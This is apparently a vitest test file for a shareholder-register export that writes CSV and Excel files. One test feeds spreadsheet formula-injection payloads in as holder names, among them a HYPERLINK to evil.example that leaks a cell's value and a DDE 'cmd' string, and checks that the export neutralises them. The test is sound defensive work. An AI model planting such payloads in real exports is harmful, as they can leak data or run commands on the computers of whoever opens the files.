import { buffer } from 'node:stream/consumers';
import { expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { describeEachDatabase } from '../../../../../test/databases.ts';
import { testContext, type TestContext } from '../../../../../test/context.ts';
import { aSecurity, anInvestor, issue } from '../../../../../test/registry.ts';
import { applyChanges, freeze, registerAt } from '../ledger/index.ts';
import { registerExportFile, registerHeader, requestRegisterExport, writeRegisterFile } from './register-export.ts';

const meta = { requestId: 'test' };

async function aRegister(ctx: TestContext) {
  const security = await aSecurity(ctx);
  const quantities = [500n, 1200n, 1200n, 80n, 3000n, 15n];
  const accounts: string[] = [];
  for (const q of quantities) {
    const inv = await anInvestor(ctx, `测试持有人${q}`);
    await issue(ctx, security, inv.shAccount, q, '2024-01-02');
    accounts.push(inv.shAccount);
  }
  // a change after the date of the register must not show in it
  await ctx.db.transaction((tx) =>
    applyChanges(tx, `later-${Math.random()}`, ctx.clock.now(), [
      { lineNo: 1, accountNumber: accounts[0]!, market: security.market, securityCode: security.code, businessType: 'trade_settlement', category: 'tradable', quantity: -500n, effectiveOn: '2024-05-02' },
      { lineNo: 2, accountNumber: accounts[3]!, market: security.market, securityCode: security.code, businessType: 'trade_settlement', category: 'tradable', quantity: 500n, effectiveOn: '2024-05-02' },
    ]),
  );
  return { security, accounts };
}

describeEachDatabase('register export', (getDb) => {
  it('writes the CSV: the same rows as the register query, ranked, with the header', async () => {
    const ctx = testContext(getDb());
    const { security } = await aRegister(ctx);
    const progress: number[] = [];
    const written = await writeRegisterFile(ctx, { securityId: security.id, date: '2024-03-01', format: 'csv' }, (done) => progress.push(done));
    const text = (await buffer(ctx.files.read(written.fileKey))).toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const records = parse(text.slice(1)) as string[][];
    expect(records[0]).toEqual(registerHeader);
    const expected = await registerAt(ctx.db, security.id, '2024-03-01', 1000);
    expect(written.rows).toBe(expected.length);
    expect(records.slice(1).map((r) => [r[0], r[5], r[6], r[8], r[9], r[10], r[11]])).toEqual(
      expected.map((l) => [String(l.rank), l.accountNumber, l.total.toString(), l.tradable.toString(), l.restricted.toString(), l.frozen.toString(), l.pledged.toString()]),
    );
    expect(records[1]!.slice(1, 4)).toEqual(['测试持有人3000', '个人', '居民身份证']);
    // 3000 of 5995 shares
    expect(records[1]![7]).toBe('50.0417');
    expect(progress.at(-1)).toBe(6);
  });

  it('neutralises holder names a spreadsheet would run as a formula, in the CSV; the Excel file keeps them as text cells', async () => {
    const ctx = testContext(getDb());
    const security = await aSecurity(ctx);
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1:A9)', '普通,名称'];
    // (a leading tab or carriage return cannot reach a holder's name, which is stored trimmed; csv.test.ts covers them)
    for (const [i, name] of names.entries()) {
      const inv = await anInvestor(ctx, name);
      await issue(ctx, security, inv.shAccount, BigInt(1000 - i), '2024-01-02');
    }
    const csv = await writeRegisterFile(ctx, { securityId: security.id, date: '2024-03-01', format: 'csv' });
    const records = parse((await buffer(ctx.files.read(csv.fileKey))).toString('utf8').slice(1)) as string[][];
    expect(records.slice(1).map((r) => r[1])).toEqual([...names.slice(0, 4).map((n) => `'${n}`), '普通,名称']);
    // numeric columns are left as numbers
    expect(records.slice(1).map((r) => r[6])).toEqual(names.map((_, i) => String(1000 - i)));
    expect(records.slice(1).every((r) => /^\d+$/.test(r[0]!) && /^\d+\.\d{4}$/.test(r[7]!))).toBe(true);

    const xlsx = await writeRegisterFile(ctx, { securityId: security.id, date: '2024-03-01', format: 'xlsx' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await buffer(ctx.files.read(xlsx.fileKey))) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('股东名册')!;
    for (const [i, name] of names.entries()) {
      const cell = sheet.getRow(i + 2).getCell(2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(name);
    }
  });

  it('writes the Excel file: it opens and holds the same rows', async () => {
    const ctx = testContext(getDb());
    const { security, accounts } = await aRegister(ctx);
    await freeze(ctx, meta, { kind: 'system' }, { accountNumber: accounts[1]!, securityId: security.id, quantity: 200n, authority: '测试人民法院', caseNumber: '（2024）测0101执1号', months: 12, on: '2024-06-03' });
    const { exportId, jobId } = await requestRegisterExport(ctx, meta, { kind: 'staff', id: null }, { market: security.market, code: security.code, date: '2024-06-30', format: 'xlsx' });
    expect(jobId).toBeTruthy();
    expect(await ctx.jobs.drain()).toBe(1);
    const file = await registerExportFile(ctx, exportId);
    expect(file.fileName).toBe(`register-${security.market}${security.code}-2024-06-30.xlsx`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await buffer(file.stream)) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('股东名册')!;
    const values = sheet.getSheetValues().slice(1) as unknown[][];
    expect(values[0]!.slice(1)).toEqual(registerHeader);
    const expected = await registerAt(ctx.db, security.id, '2024-06-30', 1000);
    expect(values.length - 1).toBe(expected.length);
    expect(values.slice(1).map((r) => [r[1], r[6], r[7], r[9], r[11]])).toEqual(expected.map((l) => [l.rank, l.accountNumber, Number(l.total), Number(l.tradable), Number(l.frozen)]));
  });
});
